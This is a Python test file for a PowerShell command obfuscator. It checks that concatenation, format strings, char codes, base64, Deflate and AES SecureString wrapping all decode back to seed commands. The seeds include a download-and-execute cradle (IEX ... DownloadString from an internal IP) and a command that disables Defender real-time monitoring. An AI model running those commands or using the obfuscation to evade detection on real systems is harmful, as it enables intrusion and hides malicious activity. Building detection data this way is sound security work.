"""PowerShell techniques, checked without PowerShell (pwsh cannot be installed here).

Payloads are decoded (base64/UTF-16LE, raw Deflate, Gzip, AES-CBC SecureString via openssl); string-building
outputs are evaluated by ``Evaluator``, a parser for exactly the constructs the techniques emit ('a'+'b',
"{1}{0}" -f ..., [char]N, [char[]](...), -join, 'abc'[-1..-3], -replace, .Replace(), [string]::Join,
[array]::Reverse) with PowerShell's precedence (casts and unary -join > comma > -f > + > -join/-replace).
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import re
import shutil
import subprocess
import zlib
from pathlib import Path

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline.obfuscate import INTENSITIES, _aes, obfuscate, powershell

SEEDS = [
    "Write-Host hello",
    "Get-ChildItem C:\\Users | Where-Object { $_.Name -like 'a*' }",
    "Invoke-WebRequest -Uri 'http://example.com/a.ps1' -OutFile \"$env:TEMP\\a.ps1\"",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
    "$p = Get-Service -Name 'WinRM'; Write-Output $p.Status",
    "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/x.ps1')",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Write-Output 'it''s done'",
]
SHARED = Path(__file__).resolve().parents[2] / "shared" / "data" / "cmdline" / "cmdlines.jsonl.gz"
VARIABLES = {"$env:comspec": "C:\\WINDOWS\\system32\\cmd.exe", "$shellid": "Microsoft.PowerShell"}


class Char(str):
    """A [char]: PowerShell concatenates it with + like a string."""


_TOKEN = re.compile(
    r"""(?P<ws>\s+)|(?P<sq>'(?:[^']|'')*')|(?P<dq>"[^"$`]*")|(?P<num>0x[0-9a-fA-F]+|\d+)
    |(?P<type>\[(?:string|char\[\]|char|array)\])|(?P<static>::)|(?P<op>-join|-f|-replace|-creplace)\b
    |(?P<range>\.\.)|(?P<var>\$env:\w+|\$\w+)|(?P<method>\.[A-Za-z]\w*)|(?P<name>[A-Za-z]\w*)|(?P<punct>[()\[\],+@-])""",
    re.X | re.I,
)


def to_str(v) -> str:
    if isinstance(v, list):
        return " ".join(map(to_str, v))
    return str(v)


class Evaluator:
    def __init__(self, text: str, start: int = 0, variables: dict | None = None):
        self.tokens, pos = [], start
        while pos < len(text):
            m = _TOKEN.match(text, pos)
            assert m, f"cannot tokenise {text[pos : pos + 30]!r}"
            if m.lastgroup != "ws":
                self.tokens.append((m.lastgroup, m.group(), m.end()))
            pos = m.end()
        self.i, self.vars = 0, variables if variables is not None else {}

    def peek(self, kind=None, value=None):
        if self.i >= len(self.tokens):
            return None
        k, v, _ = self.tokens[self.i]
        if (kind is None or k == kind) and (value is None or v.lower() == value):
            return self.tokens[self.i]
        return None

    def take(self, kind=None, value=None):
        tok = self.peek(kind, value)
        assert tok, f"expected {kind} {value} at {self.tokens[self.i : self.i + 3]}"
        self.i += 1
        return tok[1]

    def end(self) -> int:
        return self.tokens[self.i - 1][2]

    def expr(self):
        left = self.additive()
        while self.peek("op") and self.peek("op")[1].lower() != "-f":
            op = self.take("op").lower()
            right = self.additive()
            if op == "-join":
                left = to_str(right).join(map(to_str, left if isinstance(left, list) else [left]))
            else:
                pattern, repl = right
                left = re.sub(pattern, repl, to_str(left), flags=0 if op == "-creplace" else re.I)
        return left

    def additive(self):
        left = self.format()
        while self.peek("punct", "+"):
            self.take()
            right = self.format()
            if isinstance(left, list):
                left = left + (right if isinstance(right, list) else [right])
            elif isinstance(left, str):
                left = left + to_str(right)
            else:
                left = left + right
        return left

    def format(self):
        left = self.comma()
        while self.peek("op", "-f"):
            self.take()
            args = self.comma()
            args = args if isinstance(args, list) else [args]
            left = re.sub(r"\{(\d+)\}", lambda m, args=args: to_str(args[int(m.group(1))]), left)
        return left

    def comma(self):
        items = [self.range_()]
        while self.peek("punct", ","):
            self.take()
            items.append(self.range_())
        return items if len(items) > 1 else items[0]

    def range_(self):
        left = self.unary()
        if self.peek("range"):
            self.take()
            right = self.unary()
            step = 1 if right >= left else -1
            return list(range(left, right + step, step))
        return left

    def unary(self):
        if self.peek("op", "-join"):
            self.take()
            v = self.unary()
            return "".join(map(to_str, v if isinstance(v, list) else [v]))
        if self.peek("punct", "-"):
            self.take()
            return -self.unary()
        if self.peek("type"):
            kind = self.take().lower()
            if self.peek("static"):
                self.take()
                method = self.take("name").lower()
                args = self.call_args()
                if (kind, method) == ("[string]", "join"):
                    return to_str(args[0]).join(map(to_str, args[1]))
                if (kind, method) == ("[array]", "reverse"):
                    return args
                raise AssertionError(f"unmodelled {kind}::{method}")
            return self.cast(kind, self.unary())
        return self.postfix()

    def cast(self, kind: str, v):
        if kind == "[char]":
            return Char(chr(v)) if isinstance(v, int) else Char(v)
        if kind == "[string]":
            return to_str(v)
        if kind == "[char[]]":
            return [Char(chr(x)) if isinstance(x, int) else Char(x) for x in (v if isinstance(v, list) else list(v))]
        raise AssertionError(kind)

    def call_args(self):
        self.take("punct", "(")
        args = self.expr()
        self.take("punct", ")")
        return args if isinstance(args, list) else [args]

    def postfix(self):
        v = self.primary()
        while True:
            if self.peek("punct", "["):
                self.take()
                index = self.expr()
                self.take("punct", "]")
                v = [Char(v[k]) for k in index] if isinstance(index, list) else Char(v[index])
            elif self.peek("method"):
                method = self.take().lower()
                if method == ".replace":
                    old, new = self.call_args()
                    v = to_str(v).replace(old, new)
                elif method == ".tochararray":
                    self.take("punct", "(")
                    self.take("punct", ")")
                    v = [Char(c) for c in v]
                else:
                    raise AssertionError(method)
            else:
                return v

    def primary(self):
        kind, value, _ = self.tokens[self.i]
        self.i += 1
        if kind == "sq":
            return value[1:-1].replace("''", "'")
        if kind == "dq":
            return value[1:-1]
        if kind == "num":
            return int(value, 0)
        if kind == "var":
            return self.vars[value.lower()] if value.lower() in self.vars else VARIABLES[value.lower()]
        if value == "@":
            self.take("punct", "(")
            v = self.expr()
            self.take("punct", ")")
            return v if isinstance(v, list) else [v]
        assert value == "(", f"unexpected {value!r}"
        v = self.expr()
        self.take("punct", ")")
        return v


def evaluate(text: str, variables: dict | None = None):
    e = Evaluator(text, variables=variables)
    v = e.expr()
    assert e.i == len(e.tokens), f"left over: {e.tokens[e.i :]}"
    return v


def statements(text: str) -> list[str]:
    mask = powershell._code_mask(text)
    out, depth, start = [], 0, 0
    for i, c in enumerate(text):
        if mask[i] and c in "({":
            depth += 1
        elif mask[i] and c in ")}":
            depth -= 1
        elif mask[i] and c == ";" and depth == 0:
            out.append(text[start:i])
            start = i + 1
    return out + [text[start:]]


def reassemble(text: str) -> str:
    """The code an obfuscated line runs: wrappers unwrapped, string expressions evaluated."""
    variables: dict = {}
    for st in map(str.strip, statements(text)):
        if m := re.fullmatch(r"(?i)\[array\]::reverse\(\$(\w+)\)", st):
            variables["$" + m.group(1).lower()].reverse()
            continue
        if m := re.match(r"(?i)(iex|invoke-expression)\s*(?=\()", st):
            return evaluate(st[m.end() :], variables)
        if m := re.search(r"(?i)\)\s*\|\s*(iex|invoke-expression)$", st):
            return evaluate(st[: m.start() + 1], variables)
        if st[:2] in ("&(", ".(") and (head := _group(st, 1, variables))[0].lower() == "iex":
            try:
                return evaluate(st[head[1] :], variables)
            except AssertionError:  # the seed's own IEX, rebuilt by a light variant
                break
        if m := re.match(r"\$(\w+)\s*=(?!=)", st):
            try:
                variables["$" + m.group(1).lower()] = evaluate(st[m.end() :], variables)
                continue
            except AssertionError:  # not a string expression: an ordinary statement of the seed
                pass
        break
    # a light variant: the first command name was rebuilt as &(...) or .(...)
    i = min(k for k in (text.find("&("), text.find(".(")) if k >= 0)
    name, end = _group(text, i + 1, {})
    return text[:i] + name + text[end:]


def _group(text: str, start: int, variables: dict) -> tuple[str, int]:
    """Evaluate the parenthesised expression starting at ``start``; its value and where it ends."""
    e = Evaluator(text[: _close(text, start) + 1], start, variables)
    value = e.primary()
    return value, e.end()


def _close(text: str, start: int) -> int:
    mask, depth = powershell._code_mask(text), 0
    for i in range(start, len(text)):
        if mask[i] and text[i] == "(":
            depth += 1
        elif mask[i] and text[i] == ")":
            depth -= 1
            if depth == 0:
                return i
    raise AssertionError("unbalanced")


def outputs(name: str, rng_seeds=(1, 2, 3)):
    for seed in SEEDS:
        for intensity in INTENSITIES:
            for r in rng_seeds:
                try:
                    yield seed, intensity, obfuscate(seed, "powershell", [name], intensity, rng=r).text
                except SectuneError:
                    pass


def test_evaluator_knows_powershell_precedence():
    assert evaluate("\"{1}{0}\" -f 'ost','Write-H'") == "Write-Host"
    assert evaluate("-join('tsoH-etirW'[-1..-10])") == "Write-Host"
    assert evaluate("[string]::join('',[char[]](73,69,0x58))") == "IEX"
    assert evaluate("'WXrite-Host' -replace 'x',''") == "Write-Host"  # -replace ignores case
    assert evaluate("'WXrite-Host'.Replace('x','')") == "WXrite-Host"
    assert evaluate("$env:ComSpec[4,15,25]-join''") == "Iex" and evaluate("$ShellId[1]+$ShellId[13]+'x'") == "iex"
    assert reassemble("&('Wr'+'ite-Host') hi") == "Write-Host hi"


@pytest.mark.parametrize(
    "name",
    [
        "powershell/concat",
        "powershell/format",
        "powershell/char-codes",
        "powershell/join",
        "powershell/reverse",
        "powershell/replace",
    ],
)
def test_string_building_reassembles_to_the_seed(name):
    cases = list(outputs(name))
    assert {i for _, i, _ in cases} == set(INTENSITIES)
    for seed, intensity, text in cases:
        assert text != seed
        assert reassemble(text) == seed, f"{intensity}: {text}"
        if intensity == "light" and text.startswith(("&(", ".(")):
            assert text.endswith(seed.split(" ", 1)[1] if " " in seed else ")")  # only the command name changed


def test_encoded_command_decodes_to_the_seed():
    for seed, _intensity, text in outputs("powershell/encoded-command"):
        *switches, enc, payload = text.split()
        assert switches[0].lower() in ("powershell", "powershell.exe")
        assert enc.lower() in {s.lower() for s in powershell._ENCODED_SWITCHES}
        assert base64.b64decode(payload).decode("utf-16-le") == seed


def test_deflate_inflates_to_the_seed():
    for seed, _intensity, text in outputs("powershell/deflate"):
        start = text.lower().index("frombase64string(") + len("frombase64string")
        data = base64.b64decode(evaluate(text[start : _close(text, start) + 1]))
        if "gzipstream" in text.lower():
            assert gzip.decompress(data).decode() == seed
        else:
            assert zlib.decompress(data, wbits=-15).decode() == seed
        assert re.search(r"(?i)iex|invoke-expression|comspec|shellid", text)


def test_aes_matches_fips_197():
    plain = bytes.fromhex("00112233445566778899aabbccddeeff")
    for key, cipher in [
        ("000102030405060708090a0b0c0d0e0f", "69c4e0d86a7b0430d8cdb78070b4c55a"),
        ("000102030405060708090a0b0c0d0e0f1011121314151617", "dda97ca4864cdfe06eaf70a0ec0d7191"),
        ("000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f", "8ea2b7ca516745bfeafc49904b496089"),
    ]:
        assert _aes.encrypt_block(plain, _aes._expand(bytes.fromhex(key))).hex() == cipher


@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs openssl to decrypt")
def test_securestring_decrypts_to_the_seed():
    for seed, intensity, text in outputs("powershell/securestring"):
        if intensity == "light":
            assert evaluate(re.search(r"SecureString ('(?:[^']|'')*') -AsPlainText", text).group(1)) == seed
            continue
        blob, key_text = re.search(r"SecureString '([0-9a-f]{32}[A-Za-z0-9+/=]+)' -Key \(([\d.,]+)\)", text).groups()
        key = bytes(range(1, int(key_text[3:]) + 1)) if ".." in key_text else bytes(map(int, key_text.split(",")))
        version, iv, cipher = base64.b64decode(blob[32:]).decode("utf-16-le").split("|")
        assert blob[:32] == powershell._SECURESTRING_HEADER and version == "2"
        plain = subprocess.run(
            ["openssl", "enc", "-d", f"-aes-{8 * len(key)}-cbc", "-K", key.hex(), "-iv", base64.b64decode(iv).hex()],
            input=bytes.fromhex(cipher),
            capture_output=True,
            check=True,
        ).stdout
        assert plain.decode("utf-16-le") == seed


def test_backticks_only_before_plain_letters():
    for seed, intensity, text in outputs("powershell/backtick"):
        assert text.replace("`", "") == seed and "`" in text
        assert not re.search(r"`[0abefnrtuv\W]", text, re.I)
        if intensity == "light":
            assert 1 <= text.count("`") <= 2


def test_random_case_keeps_strings_and_barewords():
    for seed, _intensity, text in outputs("powershell/random-case"):
        assert text != seed and text.lower() == seed.lower()
        mask = powershell._code_mask(seed)
        assert all(a == b for a, b, code in zip(seed, text, mask) if not code)  # strings untouched
    assert obfuscate("Write-Host Hello", "powershell", ["random-case"], "heavy", rng=2).text.endswith(" Hello")


def test_aliases_map_back_to_the_seed():
    back = {a: cmdlet for cmdlet, names in powershell.ALIASES.items() for a in names}
    done = 0
    for seed, _intensity, text in outputs("powershell/aliases"):
        words, seed_words = text.split(), seed.split()
        assert len(words) == len(seed_words) and text != seed
        for w, s in zip(words, seed_words):
            assert w.lower() == s.lower() or back.get(w.lower(), "").lower() == s.lower(), (w, s)
        done += 1
    assert done > 10
    assert obfuscate("Get-Process | Where-Object CPU", "powershell", ["aliases"], "heavy", rng=1).text.split()[
        0
    ].lower() in ("gps", "ps")


def test_where_and_foreach_aliases_only_after_a_pipe():
    for r in range(20):
        text = obfuscate(
            "ForEach-Object { $_ } | ForEach-Object { $_ }", "powershell", ["aliases"], "heavy", rng=r
        ).text
        assert text.startswith("ForEach-Object") and not text.endswith("ForEach-Object { $_ }")
    with pytest.raises(SectuneError, match="aliases"):
        obfuscate("Write-Host hi", "powershell", ["aliases"])


def test_heavy_iex_spellings_come_from_the_environment():
    texts = {obfuscate("Write-Host hi", "powershell", ["concat"], "heavy", rng=r).text for r in range(60)}
    assert any("ComSpec" in t for t in texts) and any("ShellId" in t for t in texts)
    for t in texts:
        assert reassemble(t) == "Write-Host hi"


def test_two_layer_string_chains_reassemble():
    names = ["concat", "format", "char-codes", "join", "reverse", "replace"]
    rng = random.Random(9)
    for first in names:
        for second in names:
            seed = rng.choice(SEEDS)
            text = obfuscate(seed, "powershell", [first, second], rng.choice(INTENSITIES), rng=rng.randrange(999)).text
            assert reassemble(reassemble(text)) == seed, (first, second, text)


@pytest.mark.skipif(not SHARED.exists(), reason="needs shared/data/cmdline")
def test_real_benign_lines_reassemble():
    """PowerShell-Docs and atomic-red-team lines (quotes, braces, non-ASCII...) come back exactly."""
    with gzip.open(SHARED, "rt") as f:
        lines = [row["text"] for row in map(json.loads, f) if row["shell"] == "powershell" and row["label"] == 0]
    rng = random.Random(3)
    for line in rng.sample(lines, 150):
        for name in ["concat", "format", "char-codes", "join", "reverse", "replace"]:
            text = obfuscate(line, "powershell", [name], rng.choice(INTENSITIES), rng=rng.randrange(99)).text
            assert reassemble(text) == line, f"{name}: {line!r} -> {text!r}"
